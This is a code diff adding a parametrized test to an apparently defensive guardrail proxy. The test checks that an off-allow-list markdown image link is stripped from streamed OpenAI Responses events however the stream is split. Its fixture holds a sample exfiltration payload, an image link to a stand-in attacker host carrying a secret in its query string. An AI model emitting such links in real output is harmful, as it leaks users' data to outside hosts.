@@ -23,6 +23,8 @@ from tollgate.formats.openai_responses.socket import (
     socket_event,
 )
 from tollgate.formats.usage import Usage
+from tollgate.governance.agents.agents_settings import LinksSettings
+from tollgate.governance.agents.answer_links import link_scanners
 from tollgate.governance.guardrails import detectors
 from tollgate.governance.guardrails.answer import compiled_for
 from tollgate.providers import PROVIDERS
@@ -341,3 +343,38 @@ def test_a_message_that_cannot_be_read_never_goes_on_whatever_its_lane():
     assert read is not None and read.guard is guard and guard.denied == "unread"
     assert not any(b"hunter2" in m for m in read.out)
     assert [json.loads(m)["error"]["code"] for m in read.out] == ["content_denied"]
+
+
+LINKED = "See ![x](https://evil.example/p?d=SECRET) and [docs](https://docs.example.com/a)."
+
+
+@pytest.mark.parametrize("cut", range(1, len(LINKED)))
+def test_a_link_off_the_list_is_reduced_at_any_split_of_a_lanes_deltas(cut: int):
+    """`agents.links` on the socket: the deltas give the text with the image as its text alone,
+    however they cut it; the events that repeat it whole carry the same; each event keeps its
+    lane; the record counts the link reduced, with its action."""
+    call = Call(Route.as_called("openai", "gpt-5"), "api.openai.com", "GET", "/v1/responses")
+    scanners = link_scanners(LinksSettings(allow=["*.example.com"]), None)
+    session = Session(call)
+    session.guarded["lane-1"] = guarded = Guarded(call, ResponsesSocketGuard(scanners, "lane-1"), scanners)
+    at = {"stream_id": "lane-1", "item_id": "msg_1", "output_index": 0, "content_index": 0}
+    part = {"type": "output_text", "text": LINKED, "annotations": []}
+    message = {"type": "message", "id": "msg_1", "role": "assistant", "status": "completed", "content": [part]}
+    events = [
+        *({"type": "response.output_text.delta", **at, "delta": d} for d in (LINKED[:cut], LINKED[cut:])),
+        {"type": "response.output_text.done", **at, "text": LINKED},
+        {"type": "response.completed", "stream_id": "lane-1", "response": {"id": "resp_1", "output": [message]}},
+    ]
+    got = []
+    for event in events:
+        read = _read(session, json.dumps(event).encode())
+        assert read is not None
+        got += [json.loads(m) for m in read.out]
+    expected = LINKED.replace("![x](https://evil.example/p?d=SECRET)", "x")
+    assert "".join(e["delta"] for e in got if e["type"] == "response.output_text.delta") == expected
+    assert [e["text"] for e in got if e["type"] == "response.output_text.done"] == [expected]
+    assert got[-1]["response"]["output"][0]["content"][0]["text"] == expected
+    assert {e["stream_id"] for e in got} == {"lane-1"}
+    guarded.note()
+    assert call.answer.findings == {"links.redacted": 1}
+    assert call.answer.finding_actions == (("links.redacted", "redact", 1),)
